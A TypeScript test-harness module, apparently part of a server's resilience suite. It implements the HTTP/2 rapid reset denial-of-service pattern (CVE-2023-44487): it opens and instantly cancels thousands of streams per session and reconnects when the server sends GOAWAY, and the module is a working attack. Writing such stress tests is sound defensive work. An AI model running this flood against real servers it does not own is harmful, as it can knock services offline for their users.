/**
 * HTTP/2 rapid reset (the CVE-2023-44487 pattern): streams opened and cancelled at once, as fast as the client can,
 * session after session. The server must stay up and keep serving others; it closes a session that cancels too many
 * streams (GOAWAY ENHANCE_YOUR_CALM, counted here when the client still reads it), and the attacker reconnects.
 */
import { connect, constants } from 'node:http2';
import type { CertPair } from '../support/pki.js';
import { countKind, type KindCounts } from '../support/stats.js';

/** Figures of the attack. */
export interface RapidResetFigures {
  readonly sessions: number;
  readonly streamsReset: number;
  /** GOAWAY error codes the client saw, e.g. `{ '11': 3 }` (ENHANCE_YOUR_CALM). */
  readonly goaways: KindCounts;
}

/** Opens sessions to `url` and resets streams on them for `forMs` (each session: up to `perSession` streams). */
export async function rapidReset(url: string, ca: string, client: CertPair, forMs: number, perSession = 2_000): Promise<RapidResetFigures> {
  const t0 = performance.now();
  let sessions = 0;
  let streamsReset = 0;
  const goaways: KindCounts = {};
  while (performance.now() - t0 < forMs) {
    sessions++;
    const s = connect(url, { ca, cert: client.certPem, key: client.keyPem });
    s.on('error', () => undefined);
    s.on('goaway', (code: number) => countKind(goaways, String(code)));
    const connected = await new Promise<boolean>((resolve) => {
      s.once('connect', () => resolve(true));
      s.once('close', () => resolve(false));
    });
    for (let i = 0; connected && i < perSession && !s.destroyed && !s.closed && performance.now() - t0 < forMs; i++) {
      try {
        const stream = s.request({ ':method': 'POST', ':path': '/v1/key/generate/fuzz-key' }, { endStream: false });
        stream.on('error', () => undefined);
        stream.close(constants.NGHTTP2_CANCEL);
        streamsReset++;
      } catch {
        break;
      }
      if (i % 100 === 99) await new Promise((r) => setImmediate(r));
    }
    await new Promise((r) => setTimeout(r, 20));
    s.destroy();
  }
  return { sessions, streamsReset, goaways };
}
